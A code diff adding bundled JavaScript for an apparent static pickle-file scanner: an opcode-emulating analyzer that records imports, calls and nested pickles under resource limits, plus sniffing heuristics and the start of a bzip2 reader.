+    this.t.callCallee.length = 0;
+    this.t.mutations.length = 0;
+    this.t.unsafeClassArgs.length = 0;
+    return this.t;
+  }
+  checkpoint() {
+    const a = this.a;
+    return {
+      imports: a.imports.length,
+      calls: a.calls.length,
+      persids: a.persistentIds.length,
+      nested: a.nested.length,
+      statements: this.statements.length,
+      mutations: this.t.mutations.length,
+      unsafe: this.t.unsafeClassArgs.length,
+      protocol: a.protocol,
+      opcodes: a.opcodeCount
+    };
+  }
+  rollback(c) {
+    const a = this.a;
+    a.imports.length = c.imports;
+    a.calls.length = c.calls;
+    a.persistentIds.length = c.persids;
+    a.nested.length = c.nested;
+    this.statements.length = c.statements;
+    this.t.mutations.length = c.mutations;
+    this.t.unsafeClassArgs.length = c.unsafe;
+    this.t.importUsedAt.length = c.imports;
+    this.t.importCalledAt.length = c.imports;
+    this.t.importNormalized.length = c.imports;
+    this.t.callCallee.length = c.calls;
+    this.importExprs.length = c.imports;
+    this.callArgs.length = c.calls;
+    a.protocol = c.protocol;
+    a.opcodeCount = c.opcodes;
+  }
+  resetStream() {
+    this.stack = [];
+    this.marks = [];
+    this.memoDense = [];
+    this.memoSparse = /* @__PURE__ */ new Map();
+    this.memoSize = 0;
+    this.proto = 0;
+    this.frameEnd = -1;
+  }
+  // ---- RenderNames ----
+  importExpr(imp) {
+    return this.importExprs[imp] ?? "<global>";
+  }
+  persidExpr(index) {
+    return this.persidExprs[index] ?? "persistent_load(...)";
+  }
+  // ---- byte readers ----
+  need(n) {
+    if (n > this.bytes.length - this.pos) {
+      throw new PickleError(`pickle data was truncated (need ${n} bytes)`, this.opStart, "truncated");
+    }
+  }
+  u8() {
+    this.need(1);
+    return this.bytes[this.pos++];
+  }
+  u16() {
+    this.need(2);
+    const v = this.view.getUint16(this.pos, true);
+    this.pos += 2;
+    return v;
+  }
+  i32() {
+    this.need(4);
+    const v = this.view.getInt32(this.pos, true);
+    this.pos += 4;
+    return v;
+  }
+  u32() {
+    this.need(4);
+    const v = this.view.getUint32(this.pos, true);
+    this.pos += 4;
+    return v;
+  }
+  u64() {
+    this.need(8);
+    const lo = this.view.getUint32(this.pos, true);
+    const hi = this.view.getUint32(this.pos + 4, true);
+    this.pos += 8;
+    if (hi >= 2097152) throw new PickleError("length field exceeds 2**53", this.opStart);
+    return hi * 4294967296 + lo;
+  }
+  take(n) {
+    this.need(n);
+    const out2 = this.bytes.subarray(this.pos, this.pos + n);
+    this.pos += n;
+    return out2;
+  }
+  /** Bytes up to (excluding) the next newline; the newline is consumed. */
+  line() {
+    const b = this.bytes;
+    const start2 = this.pos;
+    let i2 = start2;
+    while (i2 < b.length && b[i2] !== 10) i2++;
+    if (i2 >= b.length) throw new PickleError("pickle data was truncated (no newline)", this.opStart, "truncated");
+    this.pos = i2 + 1;
+    return b.subarray(start2, i2);
+  }
+  utf8Line(what) {
+    try {
+      return utf8Strict.decode(this.line());
+    } catch (e) {
+      if (e instanceof PickleError) throw e;
+      throw new PickleError(`${what} is not valid UTF-8`, this.opStart);
+    }
+  }
+  asciiLine(what) {
+    const l = this.line();
+    for (let i2 = 0; i2 < l.length; i2++) {
+      if (l[i2] >= 128) throw new PickleError(`${what} must be ASCII`, this.opStart);
+    }
+    return latin12(l);
+  }
+  decimalLine(what) {
+    const v = parsePythonInt(this.asciiLine(what));
+    if (v === null || typeof v === "bigint") throw new PickleError(`invalid ${what}`, this.opStart);
+    return v;
+  }
+  // ---- stack helpers ----
+  push(v) {
+    if (this.stack.length >= this.o.limits.maxStackDepth) {
+      throw new PickleError(`stack depth limit (${this.o.limits.maxStackDepth}) reached`, this.opStart, "limit");
+    }
+    this.stack.push(v);
+  }
+  fence() {
+    return this.marks.length > 0 ? this.marks[this.marks.length - 1] : 0;
+  }
+  pop() {
+    if (this.stack.length <= this.fence()) throw new PickleError("unpickling stack underflow", this.opStart);
+    return this.stack.pop();
+  }
+  top() {
+    if (this.stack.length <= this.fence()) throw new PickleError("unpickling stack underflow", this.opStart);
+    return this.stack[this.stack.length - 1];
+  }
+  popMark() {
+    if (this.marks.length === 0) throw new PickleError("could not find MARK", this.opStart);
+    const at = this.marks.pop();
+    return this.stack.splice(at);
+  }
+  memoPut(index, v) {
+    const dense = index < DENSE_MEMO_LIMIT;
+    const present = dense ? this.memoDense[index] !== void 0 : this.memoSparse.has(index);
+    if (!present) {
+      if (this.memoSize >= this.o.limits.maxMemoEntries) {
+        throw new PickleError(`memo size limit (${this.o.limits.maxMemoEntries}) reached`, this.opStart, "limit");
+      }
+      this.memoSize++;
+    }
+    if (!dense) this.memoSparse.set(index, v);
+    else {
+      while (this.memoDense.length < index) this.memoDense.push(void 0);
+      this.memoDense[index] = v;
+    }
+  }
+  memoGet(index) {
+    const v = index < DENSE_MEMO_LIMIT ? this.memoDense[index] : this.memoSparse.get(index);
+    if (v === void 0) throw new PickleError(`memo value not found at index ${index}`, this.opStart);
+    return v;
+  }
+  // ---- the machine ----
+  runStream() {
+    const b = this.bytes;
+    const limits = this.o.limits;
+    const budget = this.o.budget;
+    const a = this.a;
+    for (; ; ) {
+      if (this.frameEnd >= 0 && this.pos >= this.frameEnd) this.frameEnd = -1;
+      this.opStart = this.pos;
+      if (this.pos >= b.length) throw new PickleError("pickle data was truncated (no STOP)", this.pos, "truncated");
+      if (a.opcodeCount >= limits.maxOpcodes || budget.opcodes <= 0) {
+        throw new PickleError(`opcode limit (${limits.maxOpcodes}) reached`, this.pos, "limit");
+      }
+      a.opcodeCount++;
+      budget.opcodes--;
+      const op = b[this.pos++];
+      if (this.step(op)) return;
+      if (this.frameEnd >= 0 && this.pos > this.frameEnd) {
+        this.frameIssue("opcode crosses the end of its FRAME (frame length mismatch)");
+      }
+    }
+  }
+  /** Executes one opcode; returns true on STOP. */
+  step(op) {
+    switch (op) {
+      case 128: {
+        const p = this.u8();
+        if (this.a.protocol === null || p > this.a.protocol) this.a.protocol = p;
+        if (p > HIGHEST_PROTOCOL) throw new PickleError(`unsupported pickle protocol: ${p}`, this.opStart);
+        this.proto = p;
+        return false;
+      }
+      case 149: {
+        this.need(8);
+        const n = this.view.getUint32(this.pos, true) + this.view.getUint32(this.pos + 4, true) * 4294967296;
+        this.pos += 8;
+        const remaining = this.bytes.length - this.pos;
+        if (this.frameEnd >= 0 && this.opStart < this.frameEnd) {
+          this.frameIssue("beginning of a new frame before end of current frame");
+        }
+        if (n > remaining) {
+          this.frameIssue(`FRAME length ${n} exceeds the remaining ${remaining} bytes`);
+          this.frameEnd = -1;
+        } else {
+          this.frameEnd = this.pos + n;
+        }
+        return false;
+      }
+      case 46:
+        this.finishStream(this.pop());
+        return true;
+      case 40:
+        if (this.marks.length >= this.o.limits.maxStackDepth) {
+          throw new PickleError(`MARK depth limit (${this.o.limits.maxStackDepth}) reached`, this.opStart, "limit");
+        }
+        this.marks.push(this.stack.length);
+        return false;
+      case 48:
+        if (this.marks.length > 0 && this.stack.length === this.fence()) this.marks.pop();
+        else this.pop();
+        return false;
+      case 49:
+        this.popMark();
+        return false;
+      case 50:
+        this.push(this.top());
+        return false;
+      // ---- constants ----
+      case 78:
+        this.push(NONE);
+        return false;
+      case 136:
+        this.push(TRUE);
+        return false;
+      case 137:
+        this.push(FALSE);
+        return false;
+      case 73: {
+        const text = this.asciiLine("INT argument");
+        if (text === "00") this.push(FALSE);
+        else if (text === "01") this.push(TRUE);
+        else this.push(this.intValue(text, "INT"));
+        return false;
+      }
+      case 76: {
+        let text = this.asciiLine("LONG argument");
+        if (text.endsWith("L")) text = text.slice(0, -1);
+        this.push(this.intValue(text, "LONG"));
+        return false;
+      }
+      case 74:
+        this.push({ k: "int", v: this.i32() });
+        return false;
+      case 75:
+        this.push({ k: "int", v: this.u8() });
+        return false;
+      case 77:
+        this.push({ k: "int", v: this.u16() });
+        return false;
+      case 138:
+        this.push(this.longValue(this.u8()));
+        return false;
+      case 139: {
+        const n = this.i32();
+        if (n < 0) throw new PickleError("LONG pickle has negative byte count", this.opStart);
+        this.push(this.longValue(n));
+        return false;
+      }
+      case 70: {
+        const v = parsePythonFloat(this.asciiLine("FLOAT argument"));
+        if (v === null) throw new PickleError("invalid FLOAT argument", this.opStart);
+        this.push({ k: "float", v });
+        return false;
+      }
+      case 71: {
+        this.need(8);
+        const v = this.view.getFloat64(this.pos, false);
+        this.pos += 8;
+        this.push({ k: "float", v });
+        return false;
+      }
+      case 83: {
+        const l = this.line();
+        const q = l[0];
+        if (l.length < 2 || q !== 34 && q !== 39 || l[l.length - 1] !== q) {
+          throw new PickleError("the STRING opcode argument must be quoted", this.opStart);
+        }
+        const decoded = decodeEscapedString(l.subarray(1, l.length - 1));
+        if (decoded === null) throw new PickleError("invalid escape in STRING argument", this.opStart);
+        this.push({ k: "str", v: latin12(decoded) });
+        return false;
+      }
+      case 84: {
+        const n = this.i32();
+        if (n < 0) throw new PickleError("BINSTRING pickle has negative byte count", this.opStart);
+        this.push({ k: "str", v: latin12(this.take(n)) });
+        return false;
+      }
+      case 85:
+        this.push({ k: "str", v: latin12(this.take(this.u8())) });
+        return false;
+      case 86: {
+        const s = decodeRawUnicodeEscape(this.line());
+        if (s === null) throw new PickleError("invalid raw-unicode-escape in UNICODE argument", this.opStart);
+        this.push({ k: "str", v: s });
+        return false;
+      }
+      case 88:
+        this.push({ k: "str", v: utf8Lenient.decode(this.take(this.u32())) });
+        return false;
+      case 140:
+        this.push({ k: "str", v: utf8Lenient.decode(this.take(this.u8())) });
+        return false;
+      case 141:
+        this.push({ k: "str", v: utf8Lenient.decode(this.take(this.u64())) });
+        return false;
+      case 66:
+        this.push({ k: "bytes", v: this.take(this.u32()), bytearray: false });
+        return false;
+      case 67:
+        this.push({ k: "bytes", v: this.take(this.u8()), bytearray: false });
+        return false;
+      case 142:
+        this.push({ k: "bytes", v: this.take(this.u64()), bytearray: false });
+        return false;
+      case 150:
+        this.push({ k: "bytes", v: this.take(this.u64()), bytearray: true });
+        return false;
+      case 151:
+        this.push({ k: "buffer", readonly: false });
+        return false;
+      case 152: {
+        const v = this.pop();
+        this.push(v.k === "buffer" ? { k: "buffer", readonly: true } : v);
+        return false;
+      }
+      // ---- containers ----
+      case 93:
+        this.push({ k: "list", items: [] });
+        return false;
+      case 41:
+        this.push({ k: "tuple", items: [] });
+        return false;
+      case 125:
+        this.push({ k: "dict", items: [] });
+        return false;
+      case 143:
+        this.push({ k: "set", items: [] });
+        return false;
+      case 108:
+        this.push({ k: "list", items: this.popMark() });
+        return false;
+      case 116:
+        this.push({ k: "tuple", items: this.popMark() });
+        return false;
+      case 145:
+        this.push({ k: "frozenset", items: this.popMark() });
+        return false;
+      case 100: {
+        const items = this.popMark();
+        if (items.length % 2 !== 0) throw new PickleError("odd number of items for DICT", this.opStart);
+        this.push({ k: "dict", items });
+        return false;
+      }
+      case 133: {
+        const x = this.pop();
+        this.push({ k: "tuple", items: [x] });
+        return false;
+      }
+      case 134: {
+        const y = this.pop();
+        const x = this.pop();
+        this.push({ k: "tuple", items: [x, y] });
+        return false;
+      }
+      case 135: {
+        const z = this.pop();
+        const y = this.pop();
+        const x = this.pop();
+        this.push({ k: "tuple", items: [x, y, z] });
+        return false;
+      }
+      case 97: {
+        const v = this.pop();
+        this.addItems(this.top(), [v], "append");
+        return false;
+      }
+      case 101: {
+        const items = this.popMark();
+        this.addItems(this.top(), items, "extend");
+        return false;
+      }
+      case 144: {
+        const items = this.popMark();
+        this.addItems(this.top(), items, "add");
+        return false;
+      }
+      case 115: {
+        const v = this.pop();
+        const k = this.pop();
+        this.setItems(this.top(), [k, v]);
+        return false;
+      }
+      case 117: {
+        const items = this.popMark();
+        if (items.length % 2 !== 0) throw new PickleError("odd number of items for SETITEMS", this.opStart);
+        this.setItems(this.top(), items);
+        return false;
+      }
+      // ---- memo ----
+      case 112: {
+        const i2 = this.decimalLine("PUT argument");
+        if (i2 < 0) throw new PickleError("negative PUT argument", this.opStart);
+        this.memoPut(i2, this.top());
+        return false;
+      }
+      case 113:
+        this.memoPut(this.u8(), this.top());
+        return false;
+      case 114:
+        this.memoPut(this.u32(), this.top());
+        return false;
+      case 148:
+        this.memoPut(this.memoSize, this.top());
+        return false;
+      case 103:
+        this.push(this.memoGet(this.decimalLine("GET argument")));
+        return false;
+      case 104:
+        this.push(this.memoGet(this.u8()));
+        return false;
+      case 106:
+        this.push(this.memoGet(this.u32()));
+        return false;
+      // ---- globals, calls, persistence ----
+      case 99: {
+        const module2 = this.utf8Line("GLOBAL module");
+        const name2 = this.utf8Line("GLOBAL name");
+        this.push({ k: "global", imp: this.addImport(module2, name2, "GLOBAL", false) });
+        return false;
+      }
+      case 147: {
+        const name2 = this.pop();
+        const module2 = this.pop();
+        if (module2.k === "str" && name2.k === "str") {
+          this.push({ k: "global", imp: this.addImport(module2.v, name2.v, "STACK_GLOBAL", false) });
+        } else {
+          const m = renderValue(module2, this, 80);
+          const n = renderValue(name2, this, 80);
+          this.push({ k: "global", imp: this.addImport(m, n, "STACK_GLOBAL", true) });
+        }
+        return false;
+      }
+      case 105: {
+        const module2 = this.utf8Line("INST module");
+        const name2 = this.utf8Line("INST name");
+        const imp = this.addImport(module2, name2, "INST", false);
+        const args2 = this.popMark();
+        this.call("INST", { k: "global", imp }, { k: "tuple", items: args2 });
+        return false;
+      }
+      case 130:
+        this.extension(this.u8());
+        return false;
+      case 131:
+        this.extension(this.u16());
+        return false;
+      case 132:
+        this.extension(this.i32());
+        return false;
+      case 82: {
+        const args2 = this.pop();
+        const callee = this.pop();
+        this.call("REDUCE", callee, args2);
+        return false;
+      }
+      case 129: {
+        const args2 = this.pop();
+        const cls = this.pop();
+        this.call("NEWOBJ", cls, args2);
+        return false;
+      }
+      case 146: {
+        const kwargs = this.pop();
+        const args2 = this.pop();
+        const cls = this.pop();
+        this.call("NEWOBJ_EX", cls, args2, kwargs);
+        return false;
+      }
+      case 111: {
+        const items = this.popMark();
+        if (items.length === 0) throw new PickleError("OBJ without a class", this.opStart);
+        this.call("OBJ", items[0], { k: "tuple", items: items.slice(1) });
+        return false;
+      }
+      case 98: {
+        const state = this.pop();
+        this.build(this.top(), state);
+        return false;
+      }
+      case 80:
+        this.persistent(latin12(this.asciiPersid()));
+        return false;
+      case 81: {
+        const pid = this.pop();
+        this.persistent(renderValue(pid, this), pid);
+        return false;
+      }
+      default:
+        throw new PickleError(`invalid opcode 0x${op.toString(16).padStart(2, "0")}`, this.opStart);
+    }
+  }
+  asciiPersid() {
+    const l = this.line();
+    for (let i2 = 0; i2 < l.length; i2++) {
+      if (l[i2] >= 128) throw new PickleError("persistent IDs in protocol 0 must be ASCII strings", this.opStart);
+    }
+    return l;
+  }
+  intValue(text, what) {
+    if (text.length > MAX_EXACT_LONG_DIGITS) {
+      if (parsePythonInt(text.slice(0, 40)) === null) throw new PickleError(`invalid ${what} argument`, this.opStart);
+      return { k: "hugeint", digits: text.length };
+    }
+    const v = parsePythonInt(text);
+    if (v === null) throw new PickleError(`invalid ${what} argument`, this.opStart);
+    return { k: "int", v };
+  }
+  /** Little-endian two's complement integer of n bytes (LONG1/LONG4). */
+  longValue(n) {
+    const data = this.take(n);
+    if (n === 0) return { k: "int", v: 0 };
+    if (n > MAX_EXACT_LONG_BYTES) return { k: "hugeint", digits: n };
+    let v = 0n;
+    for (let i2 = n - 1; i2 >= 0; i2--) v = v << 8n | BigInt(data[i2]);
+    if (data[n - 1] & 128) v -= 1n << BigInt(8 * n);
+    const small = Number(v);
+    return { k: "int", v: Number.isSafeInteger(small) ? small : v };
+  }
+  finishStream(result2) {
+    const name2 = this.a.streams === 0 ? "result" : `result_${this.a.streams}`;
+    this.statement(`${name2} = ${renderValue(result2, this)}`);
+  }
+  statement(s) {
+    if (this.statements.length < MAX_STATEMENTS) this.statements.push(s);
+    else if (this.statements.length === MAX_STATEMENTS) this.statements.push("# ... further statements omitted");
+  }
+  addImport(module2, name2, opcode, dynamic) {
+    const imp = this.a.imports.length;
+    let normalized;
+    if (dynamic) {
+      normalized = "<dynamic>";
+      this.importExprs.push(`getattr(__import__(${module2}), ${name2})`);
+      this.t.importNormalized.push(["", ""]);
+    } else {
+      const n = normalizeGlobal(module2, name2, this.proto);
+      normalized = n.qualified;
+      this.importExprs.push(this.bindImport(n.module, n.name));
+      this.t.importNormalized.push([n.module, n.name]);
+    }
+    const record = { module: module2, name: name2, normalized, opcode, offset: this.opStart, dynamic };
+    this.a.imports.push(record);
+    this.t.importUsedAt.push(-1);
+    this.t.importCalledAt.push(-1);
+    return imp;
+  }
+  /** Chooses the Python expression a `from module import first` binding gives this global. */
+  bindImport(module2, name2) {
+    const dot = name2.indexOf(".");
+    const first = dot < 0 ? name2 : name2.slice(0, dot);
+    const rest = dot < 0 ? "" : name2.slice(dot);
+    const key = `${module2}\0${first}`;
+    let binding = this.importBindings.get(key);
+    if (binding === void 0) {
+      binding = first;
+      for (let i2 = 2; this.usedBindings.has(binding); i2++) binding = `${first}_${i2}`;
+      this.usedBindings.add(binding);
+      this.importBindings.set(key, binding);
+      this.statement(binding === first ? `from ${module2} import ${first}` : `from ${module2} import ${first} as ${binding}`);
+    }
+    return binding + rest;
+  }
+  extension(code3) {
+    const imp = this.a.imports.length;
+    const opcode = OPCODE_NAMES[this.bytes[this.opStart]];
+    this.a.imports.push({
+      module: "copyreg._extension_registry",
+      name: String(code3),
+      normalized: `<extension ${code3}>`,
+      opcode,
+      offset: this.opStart,
+      dynamic: false
+    });
+    this.importExprs.push(`copyreg._inverted_registry[${code3}]`);
+    this.t.importNormalized.push(["", ""]);
+    this.t.importUsedAt.push(-1);
+    this.t.importCalledAt.push(-1);
+    this.push({ k: "global", imp });
+  }
+  persistent(rendered, pid) {
+    const index = this.persidExprs.length;
+    this.persidExprs.push(`persistent_load(${pid === void 0 ? renderValue({ k: "str", v: rendered }, this) : rendered})`);
+    this.a.persistentIds.push({ offset: this.opStart, value: rendered });
+    if (pid !== void 0) this.markArguments(pid);
+    this.push({ k: "persid", index });
+  }
+  calleeName(v) {
+    if (v.k === "global") {
+      const imp = this.a.imports[v.imp];
+      return { name: imp.dynamic ? "<unknown>" : imp.normalized, imp: v.imp };
+    }
+    return { name: "<unknown>", imp: -1 };
+  }
+  call(opcode, callee, args2, kwargs) {
+    const index = this.a.calls.length;
+    const { name: name2, imp } = this.calleeName(callee);
+    const f = renderValue(callee, this);
+    let rendered = renderArgs(args2, this);
+    if (kwargs !== void 0) {
+      const kw = renderKwargs(kwargs, this);
+      if (kw.length > 0) rendered = rendered.length > 0 ? `${rendered}, ${kw}` : kw;
+    }
+    const record = { callee: name2, opcode, offset: this.opStart, args: rendered };
+    this.a.calls.push(record);
+    this.t.callCallee.push(imp);
+    const argList = args2.k === "tuple" ? args2.items : [args2];
+    this.callArgs.push(argList);
+    if (imp >= 0) {
+      if (this.t.importCalledAt[imp] === -1) this.t.importCalledAt[imp] = this.opStart;
+      if (this.t.importUsedAt[imp] === -1) this.t.importUsedAt[imp] = this.opStart;
+    }
+    this.markArguments(args2);
+    if (kwargs !== void 0) this.markArguments(kwargs);
+    if (opcode === "NEWOBJ" || opcode === "NEWOBJ_EX") {
+      const sep4 = rendered.length > 0 ? ", " : "";
+      this.statement(`_var${index} = ${f}.__new__(${f}${sep4}${rendered})`);
+    } else {
+      this.statement(`_var${index} = ${f}(${rendered})`);
+    }
+    if (this.o.classArgHelpers.has(name2)) {
+      const cls = argList[0];
+      if (cls === void 0 || cls.k !== "global") this.t.unsafeClassArgs.push({ offset: this.opStart, callee: name2 });
+    }
+    if (this.o.nested.isLoadsLike(name2) && argList.length > 0) this.nestedPickle(argList[0]);
+    this.push({ k: "call", call: index });
+  }
+  build(target, state) {
+    const offset = this.opStart;
+    let callee = "<unknown>";
+    if (target.k === "global") {
+      callee = this.calleeName(target).name;
+      this.t.mutations.push({ offset, imp: target.imp });
+    } else if (target.k === "call") {
+      callee = this.a.calls[target.call].callee;
+    }
+    const rendered = renderValue(state, this);
+    this.a.calls.push({ callee, opcode: "BUILD", offset, args: rendered });
+    this.t.callCallee.push(-1);
+    this.callArgs.push([state]);
+    this.markArguments(state);
+    this.statement(`${renderValue(target, this)}.__setstate__(${rendered})`);
+  }
+  addItems(target, items, method) {
+    if (target.k === "list" || target.k === "set") {
+      for (const v of items) target.items.push(v);
+      return;
+    }
+    if (target.k === "bytes" && target.bytearray) return;
+    if (target.k === "tuple" || target.k === "frozenset" || target.k === "dict" || !this.isObject(target)) {
+      throw new PickleError(`cannot ${method} to a ${target.k}`, this.opStart);
+    }
+    for (const v of items) this.markArguments(v);
+    const t = renderValue(target, this);
+    if (method === "extend") {
+      this.statement(`${t}.extend(${renderValue({ k: "list", items }, this)})`);
+    } else {
+      for (const v of items) this.statement(`${t}.${method}(${renderValue(v, this)})`);
+    }
+  }
+  setItems(target, items) {
+    if (target.k === "dict") {
+      for (const v of items) target.items.push(v);
+      return;
+    }
+    if (target.k === "list") {
+      for (let i2 = 0; i2 + 1 < items.length; i2 += 2) {
+        const key = items[i2];
+        if (key.k !== "int" || typeof key.v !== "number") continue;
+        const at = key.v < 0 ? target.items.length + key.v : key.v;
+        if (at >= 0 && at < target.items.length) target.items[at] = items[i2 + 1];
+      }
+      return;
+    }
+    if (target.k === "bytes" && target.bytearray) return;
+    if (isContainer(target) || !this.isObject(target)) {
+      throw new PickleError(`cannot set items on a ${target.k}`, this.opStart);
+    }
+    for (const v of items) this.markArguments(v);
+    for (let i2 = 0; i2 + 1 < items.length; i2 += 2) {
+      this.statement(`${renderValue(target, this)}[${renderValue(items[i2], this)}] = ${renderValue(items[i2 + 1], this)}`);
+    }
+  }
+  /** Values whose methods are unknown to us: results of calls, globals, persistent objects, buffers. */
+  isObject(v) {
+    return v.k === "call" || v.k === "global" || v.k === "persid" || v.k === "buffer" || v.k === "unknown";
+  }
+  /** Marks every global reachable from a call's arguments as used by that call (bounded BFS). */
+  markArguments(root) {
+    if (root.k !== "global" && !isContainer(root)) return;
+    const offset = this.opStart;
+    const seen = /* @__PURE__ */ new Set();
+    const queue = [root];
+    let left = ARG_SCAN_PER_CALL;
+    for (let qi = 0; qi < queue.length; qi++) {
+      if (left-- <= 0 || this.argScanLeft-- <= 0) {
+        this.t.argScanExhausted = true;
+        return;
+      }
+      const v = queue[qi];
+      if (v.k === "global") {
+        if (this.t.importUsedAt[v.imp] === -1) this.t.importUsedAt[v.imp] = offset;
+      } else if (isContainer(v)) {
+        for (const item of v.items) {
+          if ((item.k === "global" || isContainer(item)) && !seen.has(item)) {
+            seen.add(item);
+            queue.push(item);
+          }
+        }
+      }
+    }
+  }
+  nestedPickle(arg) {
+    const inner = this.constantBytes(arg, 0);
+    if (inner === null || inner.length === 0) return;
+    const analysis = this.o.nested.analyze(inner);
+    if (analysis !== void 0 && analysis.isPickle) this.a.nested.push({ offset: this.opStart, analysis });
+  }
+  /** Bytes a value evaluates to when it is a constant or a cheap decoding of one, else null. */
+  constantBytes(v, depth) {
+    if (v.k === "bytes") return v.v;
+    if (v.k === "str") return latin1Bytes(v.v);
+    if (v.k !== "call" || depth > 4) return null;
+    const callee = this.a.calls[v.call].callee;
+    const args2 = this.callArgs[v.call];
+    if (args2.length === 0) return null;
+    if (BYTES_WRAPPERS.has(callee) || callee === "_codecs.encode" || callee === "codecs.encode") {
+      return this.constantBytes(args2[0], depth + 1);
+    }
+    if (BASE64_DECODERS.has(callee) || callee === "codecs.decode" && isBase64Codec(args2[1])) {
+      const encoded = this.constantBytes(args2[0], depth + 1);
+      return encoded === null ? null : decodeBase64(encoded);
+    }
+    return null;
+  }
+};
+function isDottedName(s) {
+  if (s.length === 0 || s.length > 512) return false;
+  let partStart = true;
+  for (let i2 = 0; i2 < s.length; i2++) {
+    const c = s.charCodeAt(i2);
+    if (c === 46) {
+      if (partStart) return false;
+      partStart = true;
+      continue;
+    }
+    const letter = c >= 65 && c <= 90 || c >= 97 && c <= 122 || c === 95 || c >= 128;
+    if (!letter && !(!partStart && c >= 48 && c <= 57)) return false;
+    partStart = false;
+  }
+  return !partStart;
+}
+function isBase64Codec(v) {
+  return v !== void 0 && v.k === "str" && (v.v === "base64" || v.v === "base_64" || v.v === "base-64");
+}
+function latin1Bytes(s) {
+  const out2 = new Uint8Array(s.length);
+  for (let i2 = 0; i2 < s.length; i2++) {
+    const c = s.charCodeAt(i2);
+    if (c > 255) return null;
+    out2[i2] = c;
+  }
+  return out2;
+}
+function decodeBase64(encoded) {
+  const out2 = new Uint8Array(Math.floor(encoded.length * 3 / 4) + 3);
+  let acc = 0;
+  let bits = 0;
+  let n = 0;
+  for (let i2 = 0; i2 < encoded.length; i2++) {
+    const c = encoded[i2];
+    let d;
+    if (c >= 65 && c <= 90) d = c - 65;
+    else if (c >= 97 && c <= 122) d = c - 71;
+    else if (c >= 48 && c <= 57) d = c + 4;
+    else if (c === 43 || c === 45) d = 62;
+    else if (c === 47 || c === 95) d = 63;
+    else if (c === 61) break;
+    else if (c === 10 || c === 13 || c === 32) continue;
+    else return null;
+    acc = (acc << 6 | d) & 16777215;
+    bits += 6;
+    if (bits >= 8) {
+      bits -= 8;
+      out2[n++] = acc >> bits & 255;
+    }
+  }
+  return out2.subarray(0, n);
+}
+
+// src/artifacts/pickle/sniff.ts
+var PROTOCOL_0_1_STARTS = /* @__PURE__ */ new Set([
+  OP.MARK,
+  OP.EMPTY_LIST,
+  OP.EMPTY_DICT,
+  OP.EMPTY_TUPLE,
+  OP.GLOBAL,
+  OP.NONE,
+  OP.INT,
+  OP.LONG,
+  OP.FLOAT,
+  OP.STRING,
+  OP.UNICODE,
+  OP.BININT,
+  OP.BININT1,
+  OP.BININT2,
+  OP.SHORT_BINSTRING,
+  OP.BINSTRING,
+  OP.BINUNICODE,
+  OP.BINFLOAT
+]);
+var SNIFF_WINDOW = 64 * 1024;
+var SNIFF_OPCODES = 4096;
+var MIN_OPCODES_IN_WINDOW = 16;
+var NO_NESTING = { isLoadsLike: () => false, analyze: () => void 0 };
+function couldStartPickle(bytes) {
+  return bytes.length >= 2 && (bytes[0] === OP.PROTO || PROTOCOL_0_1_STARTS.has(bytes[0]));
+}
+function looksLikePickle(bytes) {
+  if (!couldStartPickle(bytes)) return false;
+  if (bytes[0] === OP.PROTO) {
+    return bytes[1] >= 2 && bytes[1] <= 5 && bytes.length >= 3 && OPCODE_NAMES[bytes[2]] !== void 0;
+  }
+  const windowed = bytes.length > SNIFF_WINDOW;
+  const trace = runMachine(windowed ? bytes.subarray(0, SNIFF_WINDOW) : bytes, {
+    limits: {
+      maxOpcodes: SNIFF_OPCODES,
+      maxStackDepth: 1e4,
+      maxMemoEntries: 1e4,
+      maxNesting: 0,
+      maxDecompressedBytes: 0
+    },
+    budget: { opcodes: SNIFF_OPCODES },
+    classArgHelpers: /* @__PURE__ */ new Set(),
+    nested: NO_NESTING
+  });
+  const a = trace.analysis;
+  if (a.streams > 0) return true;
+  if (trace.stoppedBy === "limit") return a.opcodeCount >= MIN_OPCODES_IN_WINDOW;
+  return windowed && trace.stoppedBy === "truncated" && a.opcodeCount >= MIN_OPCODES_IN_WINDOW;
+}
+
+// src/artifacts/pickle/index.ts
+var DEFAULT_PICKLE_OPTIONS = {
+  policy: "denylist",
+  allowGlobals: [],
+  limits: {
+    maxOpcodes: 5e6,
+    maxStackDepth: 1e5,
+    maxMemoEntries: 1e6,
+    maxNesting: 32,
+    maxDecompressedBytes: 1024 * 1024 * 1024
+  }
+};
+var LOADS_LIKE = /* @__PURE__ */ new Set([
+  "pickle.loads",
+  "pickle._loads",
+  "_pickle.loads",
+  "dill.loads",
+  "dill._dill.loads",
+  "cloudpickle.loads",
+  "cloudpickle.cloudpickle.loads",
+  "joblib.numpy_pickle.loads",
+  "numpy.loads",
+  "numpy.core.numeric.loads",
+  "pandas.compat.pickle_compat.loads",
+  "torch.load",
+  "torch.serialization.load",
+  "torch.storage._load_from_bytes"
+]);
+function analyzePickle(bytes, options) {
+  const resolved = {
+    policy: options?.policy ?? DEFAULT_PICKLE_OPTIONS.policy,
+    allowGlobals: options?.allowGlobals ?? DEFAULT_PICKLE_OPTIONS.allowGlobals,
+    limits: { ...DEFAULT_PICKLE_OPTIONS.limits, ...options?.limits }
+  };
+  return analyzeAt(bytes, resolved, 0, { opcodes: resolved.limits.maxOpcodes });
+}
+function analyzeAt(bytes, options, depth, budget) {
+  const nested = {
+    isLoadsLike: (callee) => LOADS_LIKE.has(callee),
+    analyze: (inner) => depth + 1 > options.limits.maxNesting ? nestingLimitReached(inner) : analyzeAt(inner, options, depth + 1, budget)
+  };
+  const trace = runMachine(bytes, { limits: options.limits, budget, classArgHelpers: CLASS_ARG_HELPERS, nested });
+  const a = trace.analysis;
+  a.issues = a.isPickle ? judge(trace, options) : [];
+  return a;
+}
+function nestingLimitReached(bytes) {
+  if (!looksLikePickle(bytes)) return void 0;
+  return {
+    isPickle: true,
+    protocol: null,
+    streams: 0,
+    opcodeCount: 0,
+    bytesConsumed: 0,
+    imports: [],
+    calls: [],
+    persistentIds: [],
+    issues: [
+      {
+        kind: "nested-pickle",
+        severity: "high",
+        message: "Pickles are nested deeper than the nesting limit; the innermost one was not inspected"
+      }
+    ],
+    nested: [],
+    error: { message: "nesting limit reached", offset: 0 }
+  };
+}
+
+// src/artifacts/containers/bzip2.ts
+var LimitReached = class extends Error {
+};
+var CorruptData = class extends Error {
+};
+var BitReader = class {
+  constructor(input) {
+    this.input = input;
+  }
+  input;
+  position = 0;
+  bitBuffer = 0;
+  bitCount = 0;
+  bits(count) {
+    if (count > 24) return this.bits(count - 24) * 16777216 + this.bits(24);
+    while (this.bitCount < count) {
+      if (this.position >= this.input.length) throw new CorruptData("bzip2 data is truncated");
